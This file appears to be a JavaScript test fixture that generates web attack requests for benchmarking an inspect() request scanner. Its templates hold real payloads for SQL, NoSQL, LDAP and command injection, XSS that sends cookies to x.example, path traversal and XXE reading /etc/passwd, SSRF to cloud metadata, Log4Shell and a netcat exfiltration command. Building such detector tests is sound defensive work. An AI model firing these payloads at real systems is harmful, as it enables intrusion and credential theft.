// Attack requests for the inspect() benchmark, written by us: one or two per class, in the places
// real attacks arrive (query, form, JSON, path, cookie, header), each behind a browser's ordinary
// headers. `unique` is appended to every payload so that each request is new to the score cache.
import { typicalBenignRequest } from './requests.mjs';

const encoder = new TextEncoder();
const browser = typicalBenignRequest().headers.filter(([name]) => name.toLowerCase() !== 'cookie');

const q = (value) => encodeURIComponent(value);

/** Templates: (unique) => partial request. */
const TEMPLATES = [
  (u) => ({ target: `/api/v2/products?id=${q(`1' union select username,password from users-- ${u}`)}` }),
  (u) => ({ target: `/search?q=${q(`shoes' or '${u}'='${u}`)}&page=1` }),
  (u) => ({ target: `/search?q=${q(`<script>alert(document.cookie)</script>${u}`)}` }),
  (u) => ({ target: `/profile?name=${q(`<img src=x onerror=alert(${u})>`)}` }),
  (u) => ({ target: `/download?file=${q(`../../../../etc/passwd${u % 2 ? '' : '%00.png'}`)}&v=${u}` }),
  (u) => ({ target: `/static/..%2f..%2f..%2fwindows%2fwin.ini?v=${u}` }),
  (u) => ({ target: `/tools/ping?host=${q(`127.0.0.1; cat /etc/passwd #${u}`)}` }),
  (u) => ({ target: `/fetch?url=${q(`http://169.254.169.254/latest/meta-data/iam/${u}`)}` }),
  (u) => ({ target: `/greet?name=${q(`{{7*${u}}}{{config.__class__.__init__.__globals__}}`)}` }),
  (u) => ({ target: `/users?filter=${q(`*)(uid=*))(|(uid=${u}`)}` }),
  (u) => ({ target: `/login?next=${q(`//evil.example/${u}`)}` }),
  (u) => ({ headers: [['X-Api-Version', `\${jndi:ldap://198.51.100.${u % 250}:1389/a}`]] }),
  (u) => ({ headers: [['Cookie', `session=abc${u}; lang=en' or 1=1--`]] }),
  (u) => ({
    method: 'POST',
    target: '/api/login',
    contentType: 'application/json',
    body: JSON.stringify({ username: { $ne: null }, password: { $gt: '' }, nonce: u }),
  }),
  (u) => ({
    method: 'POST',
    target: '/api/comments',
    contentType: 'application/x-www-form-urlencoded',
    body: `author=ann&text=${q(`nice post <svg/onload=fetch('//x.example/'+document.cookie)> ${u}`)}`,
  }),
  (u) => ({
    method: 'POST',
    target: '/api/import',
    contentType: 'application/xml',
    body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r id="${u}">&x;</r>`,
  }),
  (u) => ({
    method: 'POST',
    target: '/api/run',
    contentType: 'application/json',
    body: JSON.stringify({ cmd: `ls -la | nc 203.0.113.9 ${4000 + (u % 1000)}`, id: u }),
  }),
  (u) => ({ target: `/page?lang=${q(`en%0d%0aSet-Cookie:%20admin=${u}`)}` }),
];

/** `count` attack requests, cycling through the templates with a unique number each. */
export function attackRequests(count) {
  const out = [];
  for (let i = 0; i < count; i++) {
    const base = TEMPLATES[i % TEMPLATES.length](1000 + i);
    const headers = [...browser, ...(base.headers ?? [])];
    if (base.contentType) headers.push(['Content-Type', base.contentType]);
    out.push({
      method: base.method ?? 'GET',
      target: base.target ?? '/',
      httpVersion: '1.1',
      headers,
      ...(base.body ? { body: encoder.encode(base.body) } : {}),
    });
  }
  return out;
}

export const ATTACK_TEMPLATE_COUNT = TEMPLATES.length;
